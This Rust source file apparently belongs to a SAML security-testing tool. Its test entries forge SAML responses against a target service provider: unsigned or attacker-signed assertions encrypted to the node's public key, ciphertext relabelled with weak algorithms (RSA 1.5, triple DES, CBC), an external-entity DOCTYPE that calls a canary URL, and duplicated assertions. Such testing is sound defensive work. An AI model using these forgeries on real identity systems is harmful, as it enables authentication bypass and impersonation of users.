//! ENC, and XSW-25: whoever can encrypt to the node has proven nothing by it.

use idp_saml::{
    dsig::{ContentAlg, KeyTransport, encrypt},
    xml::{Markup, ns},
};

use super::{Entry, answer};
use crate::attack::{
    browser::Sent,
    error::ForgeError,
    forge::{Forger, VICTIM, random, text},
};

const OAEP: &str = "http://www.w3.org/2009/xmlenc11#rsa-oaep";
const GCM: &str = "http://www.w3.org/2009/xmlenc11#aes256-gcm";

#[rustfmt::skip]
pub(super) static ENTRIES: &[Entry] = &[
    answer("XSW-25", "an unsigned assertion, encrypted to the node", |f| {
        f.answer(f.frame("", &sealed(f, &f.evil()?)?)?)
    }),
    answer("XSW-25", "an assertion signed by the attacker, encrypted to the node", |f| {
        let signed = f.draft(VICTIM)?.assertion_text(true)?;
        f.answer(f.frame("", &sealed(f, &signed)?)?)
    }),
    answer("ENC-02", "a key wrapped by RSA 1.5", |f| {
        renamed(f, OAEP, "http://www.w3.org/2001/04/xmlenc#rsa-1_5")
    }),
    answer("ENC-02", "content in triple DES", |f| {
        renamed(f, GCM, "http://www.w3.org/2001/04/xmlenc#tripledes-cbc")
    }),
    answer("ENC-02", "content in CBC mode", |f| {
        renamed(f, GCM, "http://www.w3.org/2001/04/xmlenc#aes256-cbc")
    }),
    answer("ENC-05", "a document type inside", |f| {
        let plain = format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"{}/\">]>{}", f.canary, f.evil()?);
        f.answer(f.frame("", &sealed(f, &plain)?)?)
    }),
    answer("ENC-05", "two assertions inside", |f| {
        f.answer(f.frame("", &sealed(f, &f.evil()?.repeat(2))?)?)
    }),
    answer("ENC-05", "something else inside", |f| {
        f.answer(f.frame("", &sealed(f, "<x xmlns=\"urn:x\">attack-test</x>")?)?)
    }),
    answer("ENC-07", "an assertion in the clear", |f| f.answer(f.response()?)),
];

/// Any text, encrypted to the node by the key that it publishes.
fn sealed(f: &Forger<'_>, plain: &str) -> Result<String, ForgeError> {
    let none = ForgeError::NotHere("the node publishes no key to encrypt to");
    let key = f.target()?.encryption.as_ref().ok_or(none)?;
    let (content, transport) = (ContentAlg::Aes256Gcm, KeyTransport::OaepSha256Mgf1Sha256);
    let data = encrypt(plain.as_bytes(), key, content, transport, f.now, random()?)?;
    text(&Markup::new(ns::SAML, "EncryptedAssertion").child(data))
}

/// Encrypted, and said to be encrypted otherwise.
fn renamed(f: &Forger<'_>, from: &'static str, to: &str) -> Result<Sent, ForgeError> {
    let sealed = sealed(f, &f.evil()?)?;
    if !sealed.contains(from) {
        return Err(ForgeError::Missing(from));
    }
    f.answer(f.frame("", &sealed.replace(from, to))?)
}
